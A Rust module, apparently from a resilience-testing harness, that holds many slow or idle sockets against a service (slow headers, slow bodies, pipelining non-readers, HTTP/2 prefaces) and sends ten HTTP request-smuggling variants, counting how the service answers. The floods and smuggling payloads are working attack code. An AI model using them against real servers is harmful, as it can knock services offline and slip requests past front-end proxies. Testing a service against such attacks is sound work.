//! Attacks that need only sockets: many of them, each with very little traffic.

use std::io::{ErrorKind, Read as _, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

use super::exchange::{ATTACKER, Connection, HOST, begin};
use super::seen::Seen;
use super::services::DESCRIPTORS;
use crate::clock::{now, pause};

/// Number of sockets of an attack. It is larger than the number of descriptors of a service.
const SOCKETS: u64 = DESCRIPTORS + 100;

/// Number of sockets of clients that let the service write.
pub(super) const READERS: u64 = 100;

/// Number of requests that each of them sends before reading a response. It never reads one.
const PIPELINED: usize = 200;

/// Time between two bytes of slow clients.
const DRIP: Duration = Duration::from_millis(250);

/// The behavior of each of many sockets.
pub(super) struct Manner {
    count: u64,
    opening: Vec<u8>,
    /// Bytes that are sent repeatedly.
    drip: &'static [u8],
    reads: bool,
}

impl Manner {
    pub(super) fn silent() -> Manner {
        Manner {
            count: SOCKETS,
            opening: Vec::new(),
            drip: b"",
            reads: true,
        }
    }

    pub(super) fn slow_header(path: &str) -> Manner {
        Manner {
            opening: format!("POST {path} HTTP/1.1\r\nHost: {HOST}\r\nX-Slow: ").into_bytes(),
            drip: b"a",
            ..Manner::silent()
        }
    }

    pub(super) fn slow_body(path: &str) -> Manner {
        let head = format!(
            "POST {path} HTTP/1.1\r\nHost: {HOST}\r\nContent-Type: application/json\r\n\
             Content-Length: 1000\r\n\r\n{{\"query\":"
        );
        Manner {
            opening: head.into_bytes(),
            drip: b" ",
            ..Manner::silent()
        }
    }

    pub(super) fn slow_reader(request: &[u8]) -> Manner {
        Manner {
            count: READERS,
            opening: request.repeat(PIPELINED),
            drip: b"",
            reads: false,
        }
    }

    pub(super) fn http2_preface() -> Manner {
        Manner {
            opening: super::http2::PREFACE.to_vec(),
            ..Manner::silent()
        }
    }
}

/// One socket, and the number of bytes of the opening that it has sent.
struct Held {
    stream: TcpStream,
    sent: usize,
    is_new: bool,
}

/// Holds the sockets until the end, and replaces each socket that the service closes.
pub(super) fn hold(manner: &Manner, to: SocketAddr, is_over: &dyn Fn() -> bool) -> Seen {
    let mut seen = Seen::default();
    // Small, so that unread data waits in the service and not in the kernel.
    let buffer = (!manner.reads).then_some(4096);
    let open = |seen: &mut Seen| match begin(ATTACKER, to, buffer) {
        Ok(stream) => {
            seen.count("opened");
            Some(Held {
                stream,
                sent: 0,
                is_new: true,
            })
        }
        Err(_) => {
            seen.count("not opened");
            None
        }
    };
    let mut held: Vec<Held> = (0..manner.count).filter_map(|_| open(&mut seen)).collect();
    let mut next_drip = now() + DRIP;
    while !is_over() {
        let drips = now() >= next_drip;
        if drips {
            next_drip += DRIP;
        }
        for one in &mut held {
            if !one.is_open(manner, drips, &mut seen)
                && let Some(another) = open(&mut seen)
            {
                *one = another;
            }
        }
        // Long enough to leave the processor to the measured programs.
        pause(Duration::from_millis(50));
    }
    seen
}

impl Held {
    /// Performs the due actions. Returns false if the service has closed the connection.
    fn is_open(&mut self, manner: &Manner, drips: bool, seen: &mut Seen) -> bool {
        while self.sent < manner.opening.len() {
            match self.stream.write(&manner.opening[self.sent..]) {
                Ok(count) => self.sent += count,
                Err(error) if is_waiting(&error) => break,
                Err(_) => return self.closed(seen),
            }
        }
        let is_opened = self.sent == manner.opening.len();
        if drips
            && is_opened
            && self
                .stream
                .write(manner.drip)
                .is_err_and(|it| !is_waiting(&it))
        {
            return self.closed(seen);
        }
        if !manner.reads {
            return true;
        }
        let mut buffer = [0; 1024];
        match self.stream.read(&mut buffer) {
            Ok(0) => self.closed(seen),
            Ok(count) => {
                if self.is_new {
                    self.is_new = false;
                    seen.count(&answered(&buffer[..count]));
                }
                true
            }
            Err(error) if is_waiting(&error) => true,
            Err(_) => self.closed(seen),
        }
    }

    fn closed(&self, seen: &mut Seen) -> bool {
        seen.count("closed by service");
        false
    }
}

/// True if the socket is not connected yet, or is not ready for reading or writing.
fn is_waiting(error: &std::io::Error) -> bool {
    matches!(
        error.kind(),
        ErrorKind::WouldBlock | ErrorKind::NotConnected | ErrorKind::Interrupted
    )
}

fn answered(bytes: &[u8]) -> String {
    let text = String::from_utf8_lossy(bytes);
    match text
        .strip_prefix("HTTP/1.1 ")
        .and_then(|rest| rest.get(..3))
    {
        Some(status) => status.to_owned(),
        None => "other bytes".to_owned(),
    }
}

/// Requests that two servers in a row may interpret differently.
pub(super) fn ambiguous(path: &str) -> Vec<(&'static str, Vec<u8>)> {
    let second = &format!("GET /smuggled HTTP/1.1\r\nHost: {HOST}\r\n\r\n");
    let shape = |headers: &str, body: &str| {
        let head = format!("POST {path} HTTP/1.1\r\nHost: {HOST}\r\n{headers}\r\n\r\n");
        format!("{head}{body}").into_bytes()
    };
    let length = second.len();
    let chunked = format!("0\r\n\r\n{second}");
    vec![
        (
            "TE and CL",
            shape("Content-Length: 4\r\nTransfer-Encoding: chunked", &chunked),
        ),
        (
            "two CL",
            shape(
                &format!("Content-Length: 0\r\nContent-Length: {length}"),
                second,
            ),
        ),
        (
            "CL as a list",
            shape(&format!("Content-Length: 0, {length}"), second),
        ),
        ("CL with a sign", shape("Content-Length: +0", second)),
        (
            "two TE",
            shape(
                "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
                &chunked,
            ),
        ),
        ("TE unknown", shape("Transfer-Encoding: xchunked", &chunked)),
        (
            "TE before a space",
            shape("Transfer-Encoding : chunked\r\nContent-Length: 4", &chunked),
        ),
        (
            "folded TE",
            shape(
                "Content-Length: 4\r\nTransfer-Encoding:\r\n chunked",
                &chunked,
            ),
        ),
        (
            "size beyond 64 bits",
            shape(
                "Transfer-Encoding: chunked",
                &format!("10000000000000000\r\n{second}"),
            ),
        ),
        (
            "TE behind a bare LF",
            shape(
                "Content-Length: 4\r\nX-A: b\nTransfer-Encoding: chunked",
                &chunked,
            ),
        ),
    ]
}

/// Sends them until the end, and counts requests with a second response or a good one.
pub(super) fn smuggle(path: &str, to: SocketAddr, is_over: &dyn Fn() -> bool) -> Seen {
    let mut seen = Seen::default();
    let shapes = ambiguous(path);
    for (name, bytes) in shapes.iter().cycle() {
        if is_over() {
            break;
        }
        let until: Instant = now() + Duration::from_secs(1);
        let Ok(mut connection) = Connection::open(ATTACKER, to, until) else {
            seen.count("not opened");
            continue;
        };
        let _ = connection.send_raw(bytes, until);
        match connection.count_answers(Duration::from_millis(100)) {
            (0, _) => seen.count("no answer"),
            (1, Some(400..)) => seen.count("refused"),
            (1, _) => seen.count(&format!("{name}: taken")),
            _ => seen.count(&format!("{name}: two answers")),
        }
    }
    seen
}
